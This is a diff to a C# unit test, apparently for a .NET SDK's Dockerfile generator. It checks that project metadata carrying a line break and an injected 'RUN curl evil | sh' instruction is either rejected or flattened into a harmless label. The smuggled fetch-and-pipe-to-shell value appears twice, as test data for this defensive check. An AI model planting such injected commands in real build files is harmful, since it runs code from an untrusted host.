@@ -127,12 +127,21 @@ public sealed class PublishTests(PackageFixture package)
     [Fact]
     public void Hostile_project_values_are_rejected_or_quoted()
     {
+        // A Container* value with a line break is refused; standard prose metadata is made one line, and stays inert.
         var project = TestProject.Create(package, package.NewWorkspace("hostile"), "app",
-            properties: "<Description>line one&#10;RUN curl evil | sh</Description>");
+            items: """<ContainerLabel Include="com.example.note" Value="line one&#10;RUN curl evil | sh" />""");
         var rejected = project.Build("-t:GenerateDockerfile");
         rejected.ExitCode.ShouldNotBe(0);
         rejected.ErrorCodes.ShouldBe(["CSDK1008"]);
         File.Exists(project.Dockerfile).ShouldBeFalse("nothing is half-written");
+
+        var prose = TestProject.Create(package, package.NewWorkspace("hostile-description"), "app",
+            properties: "<Description>line one&#10;RUN curl evil | sh</Description>");
+        prose.Build("-t:GenerateDockerfile").ShouldSucceed();
+        var instructions = DockerfileParser.Parse(prose.ReadDockerfile());
+        instructions.ShouldNotContain(i => i.Keyword == "RUN" && i.Arguments.Contains("evil"));
+        instructions.Where(i => i.Keyword == "LABEL").SelectMany(i => DockerfileParser.ParseKeyValues(i.Arguments)!)
+            .Single(k => k.Key == "org.opencontainers.image.description").Value.ShouldBe("line one RUN curl evil | sh");
 
         var quoted = TestProject.Create(package, package.NewWorkspace("quoted"), "app",
             properties: "<Description>say \"hi\" \\ $HOME # ${PATH} &lt;&lt;EOF</Description>",
